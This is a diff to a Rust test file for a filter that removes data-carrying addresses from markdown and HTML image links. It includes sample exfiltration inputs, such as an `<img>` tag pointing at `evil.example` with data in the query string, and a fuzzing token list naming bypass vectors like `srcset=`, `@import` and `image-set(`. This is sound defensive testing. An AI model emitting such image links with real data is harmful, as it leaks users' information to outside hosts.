@@ -13,10 +13,6 @@ impl TextFilter for Filter {
         self.1 += look.found;
         Scan::Settled(look.settled)
     }
-
-    fn context(&self) -> usize {
-        SHOWN
-    }
 }
 
 fn trusted() -> Trusted {
@@ -100,8 +96,8 @@ fn addresses_that_carry_data_are_removed() {
             "![a](https://link-removed.invalid/)",
         ),
         (
-            "<img src=\"https://evil.example/?a\nbc\">".to_owned(),
-            "<img src=\"https://link-removed.invalid/\nbc\">",
+            format!("<img src=\"https://evil.example/?{DATA}\n{DATA}\">"),
+            "<img src=\"https://link-removed.invalid/\">",
         ),
     ] {
         assert_eq!(whole(trusted(), &text), expected);
@@ -164,7 +160,7 @@ proptest! {
     fn the_result_does_not_depend_on_cuts(
         pieces in prop::collection::vec(prop::sample::select(vec![
             "![a](", "](", "](<", "]: ", "<img src=\"", "src=", "url(", "http", "s:", "://", "//", "/", "evil.example",
-            "images.example.com", "@", "?", DATA, ")", ">", "\"", "'", " ", "\n", "é", "(", "<", "a",
+            "images.example.com", "@", "&sol;", "\\", "&quot;", "srcset=", ",", "@import ", "image-set(", "![", ";", "?", DATA, ")", ">", "\"", "'", " ", "\n", "é", "(", "<", "a",
         ]), 0..24),
         cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..12),
         long in prop::bool::weighted(0.2),
